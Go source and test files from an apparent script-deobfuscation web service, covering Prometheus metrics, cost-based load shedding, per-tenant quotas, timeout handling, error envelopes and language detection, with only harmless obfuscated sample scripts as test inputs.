const metricsContentType = "text/plain; version=0.0.4; charset=utf-8"

// latencyBuckets are the upper bounds (seconds) of the per-pass latency
// histograms: exponential-ish from 100µs to 10s, wide enough for both a
// trivial token pass and a hostile multi-layer recovery run.
var latencyBuckets = []float64{
	0.0001, 0.00025, 0.0005, 0.001, 0.0025, 0.005, 0.01,
	0.025, 0.05, 0.1, 0.25, 0.5, 1, 2.5, 5, 10,
}

// latencyHist is a fixed-bucket cumulative histogram in the Prometheus
// shape (counts[i] covers observations ≤ latencyBuckets[i]; the +Inf
// bucket is the total count). Guarded by serverStats.mu.
type latencyHist struct {
	counts []int64
	sum    float64
	total  int64
}

func newLatencyHist() *latencyHist {
	return &latencyHist{counts: make([]int64, len(latencyBuckets))}
}

func (h *latencyHist) observe(seconds float64) {
	for i, ub := range latencyBuckets {
		if seconds <= ub {
			h.counts[i]++
		}
	}
	h.sum += seconds
	h.total++
}

// escapeLabelValue escapes a Prometheus label value: backslash, double
// quote and newline, per the text exposition format.
func escapeLabelValue(v string) string {
	v = strings.ReplaceAll(v, `\`, `\\`)
	v = strings.ReplaceAll(v, "\n", `\n`)
	v = strings.ReplaceAll(v, `"`, `\"`)
	return v
}

// metricsWriter accumulates exposition lines with per-family headers.
type metricsWriter struct {
	b strings.Builder
}

func (m *metricsWriter) header(name, help, typ string) {
	fmt.Fprintf(&m.b, "# HELP %s %s\n# TYPE %s %s\n", name, help, name, typ)
}

func (m *metricsWriter) val(name, labels string, v float64) {
	if labels != "" {
		labels = "{" + labels + "}"
	}
	fmt.Fprintf(&m.b, "%s%s %s\n", name, labels, strconv.FormatFloat(v, 'g', -1, 64))
}

// labeledCounts emits one counter family from a label→count map in
// sorted label order (deterministic scrapes).
func (m *metricsWriter) labeledCounts(name, help, label string, counts map[string]int64) {
	m.header(name, help, "counter")
	keys := make([]string, 0, len(counts))
	for k := range counts {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		m.val(name, label+`="`+escapeLabelValue(k)+`"`, float64(counts[k]))
	}
}

// handleMetrics renders the serving and engine counters in the
// Prometheus text exposition format: the same aggregates /statsz
// reports as JSON, plus per-pass latency histograms, shaped for
// scraping instead of inspection.
func (s *Server) handleMetrics(w http.ResponseWriter, r *http.Request) {
	st := s.stats
	m := &metricsWriter{}

	st.mu.Lock()
	uptime := time.Since(st.start).Seconds()
	m.header("invokedeob_uptime_seconds", "Seconds since the server started.", "gauge")
	m.val("invokedeob_uptime_seconds", "", uptime)
	m.header("invokedeob_in_flight_requests", "Requests currently being served.", "gauge")
	m.val("invokedeob_in_flight_requests", "", float64(st.inFlight))

	m.labeledCounts("invokedeob_requests_total", "Requests received, by endpoint.", "endpoint", st.requests)
	m.labeledCounts("invokedeob_completed_total", "Requests completed, by endpoint.", "endpoint", st.completed)
	m.labeledCounts("invokedeob_rejected_total", "Requests rejected before engine work, by reason.", "reason", st.rejected)
	m.labeledCounts("invokedeob_errors_total", "Engine runs ending in a classified error, by class.", "class", st.errors)
	m.labeledCounts("invokedeob_responses_total", "Responses sent, by HTTP status code.", "code", st.statuses)
	m.labeledCounts("invokedeob_request_classes_total", "Admitted work by predicted cost class.", "class", st.classes)
	m.labeledCounts("invokedeob_runs_total", "Engine runs, by resolved language frontend.", "lang", st.langs)

	a := st.agg
	engine := []struct {
		name, help string
		v          float64
	}{
		{"invokedeob_tokens_normalized_total", "Tokens normalized by the token phase.", float64(a.TokensNormalized)},
		{"invokedeob_pieces_attempted_total", "Recoverable pieces whose evaluation was attempted.", float64(a.PiecesAttempted)},
		{"invokedeob_pieces_recovered_total", "Recoverable pieces replaced by their literal value.", float64(a.PiecesRecovered)},
		{"invokedeob_pieces_parallel_total", "Pieces evaluated off the walk goroutine by the piece worker pool.", float64(a.PiecesParallel)},
		{"invokedeob_splices_applied_total", "Replacement batches applied as incremental document splices.", float64(a.SplicesApplied)},
		{"invokedeob_splice_fallbacks_total", "Replacement batches that fell back to a full re-render and reparse.", float64(a.SpliceFallbacks)},
		{"invokedeob_variables_traced_total", "Variable assignments recorded by tracing.", float64(a.VariablesTraced)},
		{"invokedeob_variables_inlined_total", "Variable reads replaced by traced values.", float64(a.VariablesInlined)},
		{"invokedeob_layers_unwrapped_total", "Obfuscation layers unwrapped.", float64(a.LayersUnwrapped)},
		{"invokedeob_identifiers_renamed_total", "Identifiers renamed in the final passes.", float64(a.IdentifiersRenamed)},
		{"invokedeob_iterations_total", "Fixpoint iterations executed.", float64(a.Iterations)},
		{"invokedeob_pieces_timedout_total", "Piece evaluations cut off by deadline or cancelation.", float64(a.PiecesTimedOut)},
		{"invokedeob_pieces_panicked_total", "Piece evaluations stopped at an isolation barrier.", float64(a.PiecesPanicked)},
		{"invokedeob_pieces_overbudget_total", "Piece evaluations exceeding the memory budget.", float64(a.PiecesOverBudget)},
		{"invokedeob_eval_cache_hits_total", "Piece evaluations answered from the evaluation cache.", float64(a.EvalCacheHits)},
		{"invokedeob_eval_cache_misses_total", "Piece evaluations that ran and were inserted into the cache.", float64(a.EvalCacheMisses)},
		{"invokedeob_eval_cache_skips_total", "Piece evaluations that ran but were not cacheable.", float64(a.EvalCacheSkips)},
	}
	for _, e := range engine {
		m.header(e.name, e.help, "counter")
		m.val(e.name, "", e.v)
	}

	m.header("invokedeob_pass_runs_total", "Pass executions, by pass.", "counter")
	for _, name := range st.passOrder {
		m.val("invokedeob_pass_runs_total", `pass="`+escapeLabelValue(name)+`"`, float64(st.passes[name].Runs))
	}
	m.header("invokedeob_pass_reverts_total", "Pass outputs reverted by validation, by pass.", "counter")
	for _, name := range st.passOrder {
		m.val("invokedeob_pass_reverts_total", `pass="`+escapeLabelValue(name)+`"`, float64(st.passes[name].Reverts))
	}

	m.header("invokedeob_pass_duration_seconds",
		"Per-run cumulative time spent in each pass.", "histogram")
	for _, name := range st.passOrder {
		h, ok := st.passLat[name]
		if !ok {
			continue
		}
		lbl := `pass="` + escapeLabelValue(name) + `"`
		for i, ub := range latencyBuckets {
			m.val("invokedeob_pass_duration_seconds_bucket",
				lbl+`,le="`+strconv.FormatFloat(ub, 'g', -1, 64)+`"`, float64(h.counts[i]))
		}
		m.val("invokedeob_pass_duration_seconds_bucket", lbl+`,le="+Inf"`, float64(h.total))
		m.val("invokedeob_pass_duration_seconds_sum", lbl, h.sum)
		m.val("invokedeob_pass_duration_seconds_count", lbl, float64(h.total))
	}
	st.mu.Unlock()

	pc := s.cache.Stats()
	cacheCounter := func(name, help string, parse, eval float64, hasEval bool) {
		m.header(name, help, "counter")
		m.val(name, `cache="parse"`, parse)
		if hasEval {
			m.val(name, `cache="eval"`, eval)
		}
	}
	var eh, em, ev, ecw float64
	var een, eby float64
	hasEval := s.evalCache != nil
	if hasEval {
		ec := s.evalCache.Stats()
		eh, em, ev, ecw = float64(ec.Hits), float64(ec.Misses), float64(ec.Evictions), float64(ec.CoalescedWaits)
		een, eby = float64(ec.Entries), float64(ec.Bytes)
	}
	cacheCounter("invokedeob_cache_hits_total", "Shared cache hits.", float64(pc.Hits), eh, hasEval)
	cacheCounter("invokedeob_cache_misses_total", "Shared cache misses.", float64(pc.Misses), em, hasEval)
	cacheCounter("invokedeob_cache_evictions_total", "Shared cache evictions.", float64(pc.Evictions), ev, hasEval)
	cacheCounter("invokedeob_cache_coalesced_waits_total",
		"Requests that waited on an identical in-flight computation.", float64(pc.CoalescedWaits), ecw, hasEval)
	m.header("invokedeob_cache_entries", "Shared cache entries.", "gauge")
	m.val("invokedeob_cache_entries", `cache="parse"`, float64(pc.Entries))
	if hasEval {
		m.val("invokedeob_cache_entries", `cache="eval"`, een)
	}
	m.header("invokedeob_cache_bytes", "Shared cache resident bytes.", "gauge")
	m.val("invokedeob_cache_bytes", `cache="parse"`, float64(pc.Bytes))
	if hasEval {
		m.val("invokedeob_cache_bytes", `cache="eval"`, eby)
	}

	w.Header().Set("Content-Type", metricsContentType)
	w.WriteHeader(http.StatusOK)
	_, _ = w.Write([]byte(m.b.String()))
}
