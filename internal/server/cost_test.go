package server

import (
	"strings"
	"testing"
)

// TestCostEstimate pins the estimator's behavior at the level the
// shedding decision cares about: ordering and which side of the
// default heavy line realistic inputs land on. The absolute scale is
// deliberately not pinned — HeavyCost draws the line.
func TestCostEstimate(t *testing.T) {
	if got := costEstimate(""); got != 0 {
		t.Errorf("empty script cost = %v, want 0", got)
	}

	plainSmall := "IEX (\"Wri{0}e-Ho{1}t 'hi'\" -f 't','s')"
	plainBig := strings.Repeat("Write-Host 'line of ordinary script'; ", 400) // ~15 KiB plain
	blob := strings.Repeat("QWJjZDEyMzQ1Njc4OTArL2FiY2RlZmdoaWprbG1ubw==", 1500)
	blobScript := `$p = [Convert]::FromBase64String("` + blob + `")` // ~66 KiB payload

	cPlainSmall := costEstimate(plainSmall)
	cPlainBig := costEstimate(plainBig)
	cBlob := costEstimate(blobScript)

	// Monotone in size, amplified by encoded payload.
	if !(cPlainSmall < cPlainBig && cPlainBig < cBlob) {
		t.Errorf("cost ordering violated: small=%v big=%v blob=%v", cPlainSmall, cPlainBig, cBlob)
	}
	// The blob amplification must exceed the pure length ratio: the
	// payload script is ~4x the plain one by bytes but must cost more
	// than 4x, or density/entropy contribute nothing.
	if cBlob/cPlainBig < float64(len(blobScript))/float64(len(plainBig))*2 {
		t.Errorf("blob amplification too weak: blob=%v (len %d) vs plain=%v (len %d)",
			cBlob, len(blobScript), cPlainBig, len(plainBig))
	}

	// Default-threshold classification: the small script is light, the
	// payload bomb is heavy.
	s := New(Config{})
	if got := s.classifyCost(cPlainSmall); got != classLight {
		t.Errorf("small plain script classified %q, want light (cost %v)", got, cPlainSmall)
	}
	if got := s.classifyCost(cBlob); got != classHeavy {
		t.Errorf("payload script classified %q, want heavy (cost %v)", got, cBlob)
	}
}

// TestShedThresholdResolution pins the high-water arithmetic.
func TestShedThresholdResolution(t *testing.T) {
	cases := []struct {
		name      string
		workers   int
		queue     int
		highWater float64
		want      int
	}{
		{"default 0.75 of 8", 2, 6, 0, 6},
		{"half of 3 rounds up", 1, 2, 0.5, 2},
		{"floor of 1", 1, -1, 0.1, 1},
		{"full window", 2, 2, 1, 4},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s := New(Config{Workers: tc.workers, QueueDepth: tc.queue, ShedHighWater: tc.highWater})
			if s.shedThreshold != tc.want {
				t.Errorf("threshold = %d, want %d (cap %d)", s.shedThreshold, tc.want, cap(s.admit))
			}
		})
	}
	// Negative disables: the threshold sits past the window capacity.
	s := New(Config{Workers: 1, QueueDepth: 1, ShedHighWater: -1})
	if s.shedThreshold <= cap(s.admit) {
		t.Errorf("disabled shedding still reachable: threshold %d, cap %d", s.shedThreshold, cap(s.admit))
	}
}
