package server

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/invoke-deobfuscation/invokedeob/internal/core"
	"github.com/invoke-deobfuscation/invokedeob/internal/quota"
)

// instantServer returns a server whose engine work completes
// immediately, for tests that exercise the pre-engine gates.
func instantServer(cfg Config) *Server {
	s := New(cfg)
	s.runSingle = func(ctx context.Context, lang, script string) (*core.Result, error) {
		return &core.Result{Script: script}, nil
	}
	s.runBatch = func(ctx context.Context, inputs []core.BatchInput) []core.BatchResult {
		out := make([]core.BatchResult, len(inputs))
		for i, in := range inputs {
			out[i] = core.BatchResult{Index: i, Name: in.Name, Result: &core.Result{Script: in.Script}}
		}
		return out
	}
	return s
}

// fakeQuota swaps the server's limiter for one on a fake clock.
func fakeQuota(s *Server, clock *fakeClock, rate, burst float64, maxBuckets int) {
	s.quota = quota.New(quota.Config{Rate: rate, Burst: burst, MaxBuckets: maxBuckets, Now: clock.Now})
}

type fakeClock struct {
	t time.Time
}

func (c *fakeClock) Now() time.Time { return c.t }

// TestQuotaPerTenant drives the whole quota path over HTTP with a fake
// clock: burst consumption, 429 ErrQuota with an honest Retry-After,
// per-key isolation, the anonymous bucket, and refill recovery.
func TestQuotaPerTenant(t *testing.T) {
	s := instantServer(Config{QuotaRate: 1, QuotaBurst: 2})
	clock := &fakeClock{t: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)}
	fakeQuota(s, clock, 0.5, 2, 0) // 1 token / 2s, burst 2
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	keyed := map[string]string{APIKeyHeader: "tenant-a"}
	for i := 0; i < 2; i++ {
		if pr := postJSON(t, ts.Client(), ts.URL+"/v1/deobfuscate", scriptBody("Write-Host a"), keyed); pr.status != http.StatusOK {
			t.Fatalf("burst request %d: status %d (%s)", i, pr.status, pr.raw)
		}
	}
	pr := postJSON(t, ts.Client(), ts.URL+"/v1/deobfuscate", scriptBody("Write-Host a"), keyed)
	if pr.status != http.StatusTooManyRequests {
		t.Fatalf("over-quota status = %d, want 429", pr.status)
	}
	if pr.eb.Error.Name != "ErrQuota" {
		t.Errorf("error name = %q, want ErrQuota", pr.eb.Error.Name)
	}
	// The bucket is empty and refills at 1 token per 2s: Retry-After
	// must say 2 seconds, not a generic hint.
	if ra, err := strconv.Atoi(pr.retryAfter); err != nil || ra != 2 {
		t.Errorf("Retry-After = %q, want exactly 2 (refill time of an empty 0.5/s bucket)", pr.retryAfter)
	}

	// Another tenant is isolated from tenant-a's exhaustion.
	if pr := postJSON(t, ts.Client(), ts.URL+"/v1/deobfuscate", scriptBody("Write-Host b"),
		map[string]string{APIKeyHeader: "tenant-b"}); pr.status != http.StatusOK {
		t.Errorf("isolated tenant rejected: %d (%s)", pr.status, pr.raw)
	}
	// Unkeyed traffic shares one anonymous bucket.
	for i := 0; i < 2; i++ {
		if pr := postJSON(t, ts.Client(), ts.URL+"/v1/deobfuscate", scriptBody("Write-Host anon"), nil); pr.status != http.StatusOK {
			t.Fatalf("anonymous burst request %d: status %d", i, pr.status)
		}
	}
	if pr := postJSON(t, ts.Client(), ts.URL+"/v1/deobfuscate", scriptBody("Write-Host anon"), nil); pr.status != http.StatusTooManyRequests {
		t.Errorf("anonymous bucket not enforced: status %d", pr.status)
	}

	// Refill recovery: advance past one refill period and tenant-a is
	// served again.
	clock.t = clock.t.Add(2 * time.Second)
	if pr := postJSON(t, ts.Client(), ts.URL+"/v1/deobfuscate", scriptBody("Write-Host a"), keyed); pr.status != http.StatusOK {
		t.Errorf("post-refill request rejected: %d (%s)", pr.status, pr.raw)
	}

	// /v1/batch flows through the same gate.
	clock.t = clock.t.Add(time.Hour) // refill tenant-a to full burst
	batch := `{"scripts":[{"script":"Write-Host x"}]}`
	postJSON(t, ts.Client(), ts.URL+"/v1/batch", batch, keyed)
	postJSON(t, ts.Client(), ts.URL+"/v1/batch", batch, keyed)
	if pr := postJSON(t, ts.Client(), ts.URL+"/v1/batch", batch, keyed); pr.status != http.StatusTooManyRequests || pr.eb.Error.Name != "ErrQuota" {
		t.Errorf("batch over-quota = %d %q, want 429 ErrQuota", pr.status, pr.eb.Error.Name)
	}

	// The quota counters surface in /statsz.
	var sb statszBody
	getJSON(t, ts, "/statsz", &sb)
	if sb.Quota == nil {
		t.Fatal("statsz missing quota section with quotas enabled")
	}
	if sb.Quota.Rejected == 0 || sb.Quota.Allowed == 0 {
		t.Errorf("quota counters not moving: %+v", sb.Quota)
	}
	if sb.Rejected[rejectQuota] == 0 {
		t.Errorf("rejected[quota] = 0, want > 0 (rejected map: %v)", sb.Rejected)
	}
	if sb.StatusCounts["429"] == 0 {
		t.Errorf("status_counts missing 429s: %v", sb.StatusCounts)
	}
}

// heavyScript builds a script whose costEstimate clears the given
// threshold by pure size (low entropy, no blobs).
func heavyScript(threshold float64) string {
	return strings.Repeat("Write-Host 'heavy heavy heavy'; ", int(threshold/30)+4)
}

// TestCostAwareShedding is the deterministic degradation test: with
// the admission window pushed past the high-water mark by blocked
// work, a predicted-heavy request is refused 503 ErrShed while a light
// request sails through to a worker.
func TestCostAwareShedding(t *testing.T) {
	// Workers 1 + queue 2 = window of 3; high water 0.5 -> threshold 2.
	// One blocked request holds a token, so any probe (holding the
	// second) decides under pressure.
	cfg := Config{Workers: 1, QueueDepth: 2, HeavyCost: 1000, ShedHighWater: 0.5}
	s, release, started := blockingServer(t, cfg)
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	go doPost(ts.Client(), ts.URL+"/v1/deobfuscate", scriptBody("Write-Host busy"), nil)
	<-started // the worker slot and one admission token are held

	// Heavy probe: shed before any engine work.
	pr := postJSON(t, ts.Client(), ts.URL+"/v1/deobfuscate", scriptBody(heavyScript(1000)), nil)
	if pr.status != http.StatusServiceUnavailable {
		t.Fatalf("heavy probe status = %d, want 503", pr.status)
	}
	if pr.eb.Error.Name != "ErrShed" {
		t.Errorf("heavy probe error = %q, want ErrShed", pr.eb.Error.Name)
	}
	if pr.retryAfter == "" {
		t.Error("shed response without Retry-After")
	}

	// Light probe: admitted and queued despite the same pressure; it
	// completes once the blocked work releases.
	lightDone := make(chan postResult, 1)
	go func() {
		lpr, err := doPost(ts.Client(), ts.URL+"/v1/deobfuscate", scriptBody("Write-Host light"), nil)
		if err != nil {
			t.Error(err)
		}
		lightDone <- lpr
	}()
	waitFor(t, func() bool { return len(s.admit) == 2 }) // light sits queued
	release()
	if lpr := <-lightDone; lpr.status != http.StatusOK {
		t.Fatalf("light request under pressure = %d, want 200 (%s)", lpr.status, lpr.raw)
	}

	// Class counters recorded the split.
	var sb statszBody
	getJSON(t, ts, "/statsz", &sb)
	if sb.Classes["heavy_shed"] == 0 {
		t.Errorf("classes[heavy_shed] = 0, want > 0: %v", sb.Classes)
	}
	if sb.Classes[classLight] == 0 {
		t.Errorf("classes[light] = 0, want > 0: %v", sb.Classes)
	}
	if sb.Rejected[rejectShedHeavy] == 0 {
		t.Errorf("rejected[shed-heavy] = 0: %v", sb.Rejected)
	}
	if sb.StatusCounts["503"] == 0 || sb.StatusCounts["200"] == 0 {
		t.Errorf("status_counts incomplete: %v", sb.StatusCounts)
	}
}

// TestHeavyServedWhenIdle: classification alone must never refuse
// work — an idle server runs heavy scripts.
func TestHeavyServedWhenIdle(t *testing.T) {
	s := instantServer(Config{Workers: 2, HeavyCost: 100, ShedHighWater: 0.9})
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()
	pr := postJSON(t, ts.Client(), ts.URL+"/v1/deobfuscate", scriptBody(heavyScript(100)), nil)
	if pr.status != http.StatusOK {
		t.Fatalf("heavy request on idle server = %d, want 200 (%s)", pr.status, pr.raw)
	}
	var sb statszBody
	getJSON(t, ts, "/statsz", &sb)
	if sb.Classes[classHeavy] != 1 {
		t.Errorf("classes[heavy] = %d, want 1: %v", sb.Classes[classHeavy], sb.Classes)
	}
}

// TestBatchShedsOnSummedCost: a batch of individually-light scripts
// whose total clears the heavy line sheds as a unit under pressure.
func TestBatchShedsOnSummedCost(t *testing.T) {
	cfg := Config{Workers: 1, QueueDepth: 2, HeavyCost: 1000, ShedHighWater: 0.5}
	s, release, started := blockingServer(t, cfg)
	defer release()
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()
	go doPost(ts.Client(), ts.URL+"/v1/deobfuscate", scriptBody("Write-Host busy"), nil)
	<-started

	var scripts []string
	for i := 0; i < 10; i++ {
		scripts = append(scripts, fmt.Sprintf(`{"script":%q}`, strings.Repeat("Write-Host batchy; ", 10)))
	}
	body := `{"scripts":[` + strings.Join(scripts, ",") + `]}`
	pr := postJSON(t, ts.Client(), ts.URL+"/v1/batch", body, nil)
	if pr.status != http.StatusServiceUnavailable || pr.eb.Error.Name != "ErrShed" {
		t.Fatalf("wide batch under pressure = %d %q, want 503 ErrShed", pr.status, pr.eb.Error.Name)
	}
	release()
}

// TestQueuedDeadline504RetryAfter: the queued-deadline 504 carries a
// Retry-After like the other back-off responses.
func TestQueuedDeadline504RetryAfter(t *testing.T) {
	s, release, started := blockingServer(t, Config{Workers: 1, QueueDepth: 4})
	defer release()
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()
	go doPost(ts.Client(), ts.URL+"/v1/deobfuscate", scriptBody("Write-Host busy"), nil)
	<-started
	pr := postJSON(t, ts.Client(), ts.URL+"/v1/deobfuscate",
		scriptBody("Write-Host queued"), map[string]string{TimeoutHeader: "30ms"})
	if pr.status != http.StatusGatewayTimeout {
		t.Fatalf("status = %d, want 504", pr.status)
	}
	if pr.retryAfter == "" {
		t.Error("queued-deadline 504 without Retry-After")
	}
	release()
}

// TestTimeoutHeaderTable is the X-Deob-Timeout edge-case suite: each
// malformed/negative/zero value gets a deterministic 400, valid values
// set the deadline, and over-cap values clamp to MaxTimeout.
func TestTimeoutHeaderTable(t *testing.T) {
	const maxTO = 200 * time.Millisecond
	const defaultTO = 5 * time.Second
	cases := []struct {
		name string
		hdr  string // "" = header absent
		// want400 means the request is rejected before any engine work.
		want400 bool
		// wantDeadline is the expected context budget for served
		// requests (checked within a slack window).
		wantDeadline time.Duration
	}{
		{"absent uses default", "", false, defaultTO},
		{"valid value used", "90ms", false, 90 * time.Millisecond},
		{"over max clamps", "1h", false, maxTO},
		{"exactly max passes unclamped", "200ms", false, maxTO},
		{"malformed word", "soon", true, 0},
		{"number without unit", "10", true, 0},
		{"zero", "0s", true, 0},
		{"negative", "-5s", true, 0},
		{"empty-ish garbage", "ms", true, 0},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s := New(Config{MaxTimeout: maxTO, DefaultTimeout: defaultTO})
			var sawDeadline time.Duration
			ran := false
			s.runSingle = func(ctx context.Context, lang, script string) (*core.Result, error) {
				ran = true
				dl, ok := ctx.Deadline()
				if !ok {
					t.Error("request context carries no deadline")
				}
				sawDeadline = time.Until(dl)
				return &core.Result{Script: script}, nil
			}
			ts := httptest.NewServer(s.Handler())
			defer ts.Close()
			var hdr map[string]string
			if tc.hdr != "" {
				hdr = map[string]string{TimeoutHeader: tc.hdr}
			}
			pr := postJSON(t, ts.Client(), ts.URL+"/v1/deobfuscate", scriptBody("Write-Host t"), hdr)
			if tc.want400 {
				if pr.status != http.StatusBadRequest {
					t.Fatalf("status = %d, want 400", pr.status)
				}
				if pr.eb.Error.Name != nameBadRequest {
					t.Errorf("error name = %q, want %q", pr.eb.Error.Name, nameBadRequest)
				}
				if ran {
					t.Error("engine ran despite an invalid timeout header")
				}
				return
			}
			if pr.status != http.StatusOK {
				t.Fatalf("status = %d, want 200 (%s)", pr.status, pr.raw)
			}
			if !ran {
				t.Fatal("engine never ran")
			}
			// The observed remaining budget can only be at or below the
			// requested deadline, and must not be wildly below it.
			if sawDeadline > tc.wantDeadline {
				t.Errorf("deadline budget %v exceeds requested %v (cap not enforced?)", sawDeadline, tc.wantDeadline)
			}
			if sawDeadline < tc.wantDeadline-tc.wantDeadline/2 {
				t.Errorf("deadline budget %v far below requested %v", sawDeadline, tc.wantDeadline)
			}
		})
	}
}
