package server

import (
	"encoding/json"
	"errors"
	"net/http"
	"strconv"

	"github.com/invoke-deobfuscation/invokedeob/internal/core"
	"github.com/invoke-deobfuscation/invokedeob/internal/limits"
)

// Stable error names for service-level conditions outside the limits
// taxonomy. They share the taxonomy's Err* convention so clients
// dispatch on one namespace.
const (
	nameInvalidSyntax    = "ErrInvalidSyntax"
	nameBadRequest       = "ErrBadRequest"
	nameSaturated        = "ErrSaturated"
	nameDraining         = "ErrDraining"
	nameMethodNotAllowed = "ErrMethodNotAllowed"
)

// errorInfo is the wire shape of one error.
type errorInfo struct {
	// Name is the stable, machine-dispatchable error name: a limits
	// taxonomy name (ErrDeadline, ErrInputBudget, ...) or one of the
	// service-level names above.
	Name string `json:"name"`
	// Message is the human-readable detail.
	Message string `json:"message"`
	// Status echoes the HTTP status for clients reading bodies off a
	// middlebox that rewrote the status line.
	Status int `json:"status"`
}

// errorBody is the JSON envelope of every non-2xx response.
type errorBody struct {
	Error errorInfo `json:"error"`
	// Partial carries the salvaged partial result when an envelope
	// violation interrupted a run that had already recovered outer
	// layers — the same contract as the library, where the result is
	// non-nil alongside the taxonomy error.
	Partial *resultBody `json:"partial,omitempty"`
}

// writeJSON marshals v with the given status. Marshal failures become
// a plain 500: the DTOs here contain only marshalable fields, so this
// is a belt-and-suspenders path.
func writeJSON(w http.ResponseWriter, status int, v any) {
	b, err := json.Marshal(v)
	if err != nil {
		http.Error(w, `{"error":{"name":"ErrPanic","message":"response marshal failed","status":500}}`, http.StatusInternalServerError)
		return
	}
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	w.Write(append(b, '\n'))
}

// writeError emits the structured error envelope.
func writeError(w http.ResponseWriter, status int, name, message string, partial *resultBody) {
	writeJSON(w, status, errorBody{
		Error:   errorInfo{Name: name, Message: message, Status: status},
		Partial: partial,
	})
}

// writeRetryAfter emits an error with a Retry-After hint (saturation
// and drain responses, where the client's correct move is to back off
// and come back).
func writeRetryAfter(w http.ResponseWriter, status int, name, message string, retryAfter int) {
	w.Header().Set("Retry-After", strconv.Itoa(retryAfter))
	writeError(w, status, name, message, nil)
}

// classify maps an engine error onto (status, name): limits taxonomy
// members through limits.HTTPStatus, invalid syntax to 422, everything
// else to 500.
func classify(err error) (int, string) {
	if name := limits.Name(err); name != "" {
		return limits.HTTPStatus(err), name
	}
	if errors.Is(err, core.ErrInvalidSyntax) {
		// The request was well-formed JSON carrying a script that does
		// not parse as PowerShell: unprocessable content, client-side.
		return http.StatusUnprocessableEntity, nameInvalidSyntax
	}
	return http.StatusInternalServerError, "ErrInternal"
}
