package server

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

// TestLangSelection exercises the request-level language field end to
// end: an explicit JS request is decoded by the JS frontend, an alias
// resolves, an unknown language answers 422 ErrBadLang, and omitting
// the field auto-detects per script.
func TestLangSelection(t *testing.T) {
	s := New(Config{Workers: 2})
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()
	client := ts.Client()

	// Explicit lang.
	pr := postJSON(t, client, ts.URL+"/v1/deobfuscate",
		`{"lang":"javascript","script":"var s = 'pay' + 'load'; use(s);"}`, nil)
	if pr.status != http.StatusOK {
		t.Fatalf("explicit js: status %d body %s", pr.status, pr.raw)
	}
	var body resultBody
	if err := json.Unmarshal(pr.raw, &body); err != nil {
		t.Fatal(err)
	}
	if body.Lang != "javascript" {
		t.Errorf("lang = %q, want javascript", body.Lang)
	}
	if !strings.Contains(body.Script, "'payload'") {
		t.Errorf("JS decoder did not run: %q", body.Script)
	}

	// Alias resolves to the same frontend.
	pr = postJSON(t, client, ts.URL+"/v1/deobfuscate",
		`{"lang":"js","script":"var s = 'pay' + 'load';"}`, nil)
	if pr.status != http.StatusOK {
		t.Fatalf("alias js: status %d body %s", pr.status, pr.raw)
	}
	body = resultBody{}
	if err := json.Unmarshal(pr.raw, &body); err != nil {
		t.Fatal(err)
	}
	if body.Lang != "javascript" {
		t.Errorf("alias lang = %q, want javascript", body.Lang)
	}

	// Unknown language: 422 ErrBadLang.
	pr = postJSON(t, client, ts.URL+"/v1/deobfuscate",
		`{"lang":"cobol","script":"DISPLAY 'HI'."}`, nil)
	if pr.status != http.StatusUnprocessableEntity {
		t.Fatalf("unknown lang: status %d, want 422 (body %s)", pr.status, pr.raw)
	}
	if pr.eb.Error.Name != "ErrBadLang" {
		t.Errorf("error name = %q, want ErrBadLang", pr.eb.Error.Name)
	}

	// Omitted lang auto-detects: a JS-idiom script lands on the JS
	// frontend, a PowerShell one on the PowerShell frontend.
	pr = postJSON(t, client, ts.URL+"/v1/deobfuscate",
		`{"script":"var x = String.fromCharCode(104); console.log(x.split(''))"}`, nil)
	if pr.status != http.StatusOK {
		t.Fatalf("detect js: status %d body %s", pr.status, pr.raw)
	}
	body = resultBody{}
	if err := json.Unmarshal(pr.raw, &body); err != nil {
		t.Fatal(err)
	}
	if body.Lang != "javascript" {
		t.Errorf("detected lang = %q, want javascript", body.Lang)
	}
	pr = postJSON(t, client, ts.URL+"/v1/deobfuscate",
		scriptBody("Write-Host hi"), nil)
	if pr.status != http.StatusOK {
		t.Fatalf("detect ps: status %d body %s", pr.status, pr.raw)
	}
	body = resultBody{}
	if err := json.Unmarshal(pr.raw, &body); err != nil {
		t.Fatal(err)
	}
	if body.Lang != "powershell" {
		t.Errorf("detected lang = %q, want powershell", body.Lang)
	}
}

// TestBatchPerScriptLang asserts /v1/batch honors a per-script lang and
// isolates a bad one to its item.
func TestBatchPerScriptLang(t *testing.T) {
	s := New(Config{Workers: 2})
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	reqBody := `{"scripts":[` +
		`{"name":"js","lang":"javascript","script":"var s = 'a' + 'b';"},` +
		`{"name":"ps","lang":"powershell","script":"iex ('write-host '+'hi')"},` +
		`{"name":"bad","lang":"fortran","script":"x"}]}`
	pr := postJSON(t, ts.Client(), ts.URL+"/v1/batch", reqBody, nil)
	if pr.status != http.StatusOK {
		t.Fatalf("batch status %d body %s", pr.status, pr.raw)
	}
	var resp batchResponse
	if err := json.Unmarshal(pr.raw, &resp); err != nil {
		t.Fatal(err)
	}
	if len(resp.Results) != 3 {
		t.Fatalf("got %d results, want 3", len(resp.Results))
	}
	js, ps, bad := resp.Results[0], resp.Results[1], resp.Results[2]
	if js.Lang != "javascript" || !strings.Contains(js.Script, "'ab'") {
		t.Errorf("js item = %+v", js)
	}
	if ps.Lang != "powershell" || !strings.Contains(ps.Script, "Write-Host") {
		t.Errorf("ps item = %+v", ps)
	}
	if bad.Error == nil || bad.Error.Name != "ErrBadLang" {
		t.Errorf("bad item error = %+v, want ErrBadLang", bad.Error)
	}
	if bad.Error != nil && bad.Error.Status != http.StatusUnprocessableEntity {
		t.Errorf("bad item status = %d, want 422", bad.Error.Status)
	}
}

// TestStatszPerLanguage asserts /statsz reports per-language run counts
// and per-frontend cache hit rates after mixed-language traffic.
